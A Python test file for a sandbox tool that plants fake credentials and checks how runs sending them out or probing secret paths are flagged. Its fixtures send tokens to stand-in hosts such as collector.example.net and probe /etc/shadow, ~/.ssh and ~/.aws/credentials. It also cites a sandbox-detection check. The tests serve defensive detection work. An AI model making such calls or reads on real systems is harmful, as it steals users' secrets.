"""Pure units of the honeytokens and the run's secret findings: a service key used as a credential at
its own service is `secret.use`, anywhere else `secret.exfiltration`; the supervisor's looks at
secret paths become `secret.probe`. End to end on both backends: test_exercise.py."""

from __future__ import annotations

from sandgate.findings import Verdict
from sandgate.policy.evaluate import decide
from sandgate.policy.load import load_effective
from sandgate.sandbox import honeytokens
from sandgate.sandbox.base import RunRequest, RunResult
from sandgate.sandbox.run_findings import findings_from_run
from sandgate.sandbox.supervision import Record


def _call(honey, url: str, *, header: str | None = None, body: str | None = None) -> dict:
    """A stand-in network call as the bootstrap reports it (bootstrap._note_call)."""
    named = []
    if header is not None:
        named.append(f"headers={{'Authorization': 'Bearer {header}'}}")
    if body is not None:
        named.append(f"json={{'content': {body!r}}}")
    ev = {"kind": "standin-call", "what": "requests.get", "args": ", ".join([repr(url), *named])}
    auth = [n for n in named if n.startswith("headers=")]
    if auth:
        ev["auth"] = auth
    return ev


def _value(honey, name: str) -> str:
    return dict(honey.env)[name]


def test_a_service_key_in_a_header_to_its_own_hosts_is_use():
    honey = honeytokens.new()
    token = _value(honey, "GITHUB_TOKEN")
    [hit] = honeytokens.hits([_call(honey, "https://api.github.com/user", header=token)], [], honey)
    assert hit["use"] is True and hit["token"] == "GITHUB_TOKEN" and hit["hosts"] == ["api.github.com"]


def test_elsewhere_or_in_a_body_it_is_exfiltration():
    honey = honeytokens.new()
    token = _value(honey, "GITHUB_TOKEN")
    cases = [
        _call(honey, "https://collector.example.net/x", header=token),  # a foreign host
        _call(honey, "https://api.github.com.evil.example/x", header=token),  # a look-alike
        _call(honey, "https://api.github.com/gists", header="x", body=token),  # in the body
        _call(honey, "https://api.github.com/u?t=" + token),  # in the URL
        # Two hosts, one of them foreign: the header may go to either.
        {
            **_call(honey, "https://api.github.com/u", header=token),
            "args": "'https://api.github.com/u', 'https://evil.example/'"
            + f", headers={{'Authorization': 'Bearer {token}'}}",
        },
    ]
    for ev in cases:
        [hit] = honeytokens.hits([ev], [], honey)
        assert "use" not in hit, ev
    # A key named for no service (API_TOKEN) is exfiltration whatever the host.
    api_token = _value(honey, "API_TOKEN")
    [hit] = honeytokens.hits([_call(honey, "https://api.internal.example.com/me", header=api_token)], [], honey)
    assert "use" not in hit
    # AWS keys belong to AWS's hosts; GitHub's to GitHub's only.
    assert honeytokens.belongs("AWS_SECRET_ACCESS_KEY", "sts.us-east-1.amazonaws.com")
    assert not honeytokens.belongs("GITHUB_TOKEN", "amazonaws.com")
    assert not honeytokens.belongs("GITHUB_TOKEN", "notgithub.com")


def test_a_leak_through_the_same_sink_outranks_a_use():
    honey = honeytokens.new()
    token = _value(honey, "OPENAI_API_KEY")
    use = _call(honey, "https://api.openai.com/v1/x", header=token)
    leak = _call(honey, "https://paste.example.org/", header=token)
    [hit] = honeytokens.hits([use, leak], [], honey)
    assert "use" not in hit


def _findings(events, outside_events=(), honey=None, exclude=()):
    honey = honey or honeytokens.new()
    request = RunRequest(code="x = 1", honey=honey, exclude=tuple(exclude))
    result = RunResult(
        backend="bwrap",
        exit_code=0,
        duration_ms=1.0,
        timed_out=False,
        killed=None,
        stdout="",
        stderr="",
        events=[{"kind": "rusage", "maxrss_kb": 1}, *events],
        outside=Record(armed=True, hangup=True, exited=True, main_exit=0, events=list(outside_events)),
    )
    return findings_from_run(honeytokens.with_hits(result, honey), request)


def test_use_is_reported_not_blocked_by_balanced_and_held_by_strict():
    honey = honeytokens.new()
    token = _value(honey, "GITHUB_TOKEN")
    findings = _findings([_call(honey, "https://api.github.com/user", header=token)], honey=honey)
    rules = {f.rule for f in findings}
    assert "secret.use" in rules and "secret.exfiltration" not in rules, rules
    use = next(f for f in findings if f.rule == "secret.use")
    assert "api.github.com" in use.message and token not in use.message
    assert decide(load_effective(None, preset="balanced").policy, findings).verdict is Verdict.ALLOW
    assert decide(load_effective(None, preset="strict").policy, findings).verdict is Verdict.REVIEW
    leak = _findings([_call(honey, "https://collector.example.net/", header=token)], honey=honey)
    assert decide(load_effective(None, preset="permissive").policy, leak).verdict is Verdict.BLOCK


def test_the_supervisors_looks_at_secret_paths_are_probes():
    outside = [
        {"kind": "probe", "how": "stat", "path": "/home/sandbox/.aws/credentials", "count": 1},
        {"kind": "probe", "how": "access", "path": "/etc/shadow", "count": 1},
        {"kind": "open-read", "path": "/home/sandbox/.ssh", "dir": True, "count": 1},
    ]
    # The listing, as a real run has it: told by the in-process monitor too (else it is tampering).
    findings = _findings([{"kind": "probe", "how": "os.listdir", "path": "/home/sandbox/.ssh"}], outside)
    assert "monitor.tampered" not in {f.rule for f in findings}
    probes = {f.detail("path"): f.message for f in findings if f.rule == "secret.probe"}
    assert set(probes) == {"/home/sandbox/.aws/credentials", "/etc/shadow", "/home/sandbox/.ssh"}, findings
    assert "stat/exists" in probes["/home/sandbox/.aws/credentials"]
    assert "access check" in probes["/etc/shadow"] and "listing" in probes["/home/sandbox/.ssh"]
    assert decide(load_effective(None, preset="balanced").policy, findings).verdict is Verdict.REVIEW


def test_a_look_at_a_workspace_file_the_run_never_sees_is_no_probe():
    """The project's own `.env` is withheld from the run (files.exclude): loading it, as dotenv does,
    finds an empty file and is not a search for secrets. The same look outside the workspace, or at a
    workspace file the policy does not withhold, still is."""
    exclude = load_effective(None, preset="balanced").policy.files.exclude
    outside = [
        {"kind": "probe", "how": "stat", "path": "/workspace/.env", "count": 1},
        {"kind": "probe", "how": "stat", "path": "/workspace/config/.env", "count": 1},
        {"kind": "probe", "how": "stat", "path": "/home/sandbox/.env", "count": 1},
        {"kind": "probe", "how": "stat", "path": "/workspace/../home/sandbox/.ssh/id_rsa", "count": 1},
    ]
    findings = _findings([], outside, exclude=exclude)
    probes = {f.detail("path") for f in findings if f.rule == "secret.probe"}
    assert probes == {"/home/sandbox/.env", "/workspace/../home/sandbox/.ssh/id_rsa"}, findings
    kept = _findings([], outside[:1], exclude=())
    assert [f.detail("path") for f in kept if f.rule == "secret.probe"] == ["/workspace/.env"]


def test_npmrc_is_planted_with_the_npm_token():
    honey = honeytokens.new()
    files = dict(honey.files)
    npmrc = files["/home/sandbox/.npmrc"]
    assert npmrc.startswith("//registry.npmjs.org/:_authToken=") and honey.name_of(npmrc) == "NPM_TOKEN"


def test_npm_network_clients_stand_ins_are_sinks():
    """A JS stand-in network client (axios, missing from the sandbox) is read like Python's requests:
    a service's key in a header to its own host is secret.use, the environment in a body is a leak."""
    honey = honeytokens.new()
    token = _value(honey, "GITHUB_TOKEN")
    header = f'headers: {{Authorization: "Bearer {token}"}}'
    use = {"kind": "standin-call", "what": "axios.get", "args": f'"https://api.github.com/user", {{{header}}}'}
    use["auth"] = [header]
    assert {f.rule for f in _findings([use], honey=honey)} >= {"secret.use"}
    env = f'{{env: {{GITHUB_TOKEN: "{token}"}}}}'
    leak = {"kind": "standin-call", "what": "axios.post", "args": f'"https://hooks.example.net/ci", {env}'}
    findings = _findings([leak], honey=honey)
    assert "secret.exfiltration" in {f.rule for f in findings}
    assert decide(load_effective(None, preset="balanced").policy, findings).verdict is Verdict.BLOCK
    not_a_client = {**leak, "what": "express().post"}
    assert "secret.exfiltration" not in {f.rule for f in _findings([not_a_client], honey=honey)}


def test_the_home_looks_lived_in_and_its_ordinary_files_are_no_honeytokens():
    """Review 30, item 2b: `if not (Path.home() / ".cache").exists(): return` told the sandbox apart.
    The ordinary folders and files are planted with the honeytokens (same folders list, same files
    list: both bootstraps plant them as they are), are not honeyfiles, and their planting is taken
    out of the record like the honeyfiles'."""
    honey = honeytokens.new()
    home = "/home/sandbox"
    for folder in (".cache", ".config", ".local", ".local/share", ".local/state", ".local/bin"):
        assert f"{home}/{folder}" in honey.dirs
    assert list(honey.dirs).index(f"{home}/.local") < list(honey.dirs).index(f"{home}/.local/share")
    planted = dict(honey.files)
    for name in (".bashrc", ".profile", ".gitconfig"):
        assert f"{home}/{name}" in planted and f"{home}/{name}" not in honey.paths
        assert honey.name_of(planted[f"{home}/{name}"]) is None  # no marker in them
    assert f"{home}/.aws/credentials" in honey.paths and len(honey.paths) == len(honeytokens.FILE_NAMES)
    assert [list(f) for f in honey.files] == honey.header()["files"]
    # Read: the honeyfile is a finding, the ordinary file is not.
    reads = [{"kind": "open-read", "path": f"{home}/.gitconfig"}, {"kind": "open-read", "path": f"{home}/.bashrc"}]
    assert not [f for f in _findings(reads, honey=honey) if f.rule == "secret.honeytoken-read"]
    reads.append({"kind": "open-read", "path": f"{home}/.aws/credentials"})
    [read] = [f for f in _findings(reads, honey=honey) if f.rule == "secret.honeytoken-read"]
    assert "~/.aws/credentials" in read.message
    # Planted under the monitor (a sandbox made without a supervisor): the planting is no write.
    outside = [{"kind": "fs-change", "op": "mkdir", "path": d, "count": 1} for d in honey.dirs]
    outside += [{"kind": "open-write", "path": p, "count": 1} for p, _ in honey.files]
    assert not [f for f in _findings([], outside, honey=honey) if f.rule == "fs.write-outside-scratch"]
    rewrite = [{"kind": "open-write", "path": f"{home}/.bashrc", "count": 2}]  # planted once, written once more
    assert [f.detail("path") for f in _findings([], rewrite, honey=honey) if f.rule == "fs.write-outside-scratch"] == [
        f"{home}/.bashrc"
    ]
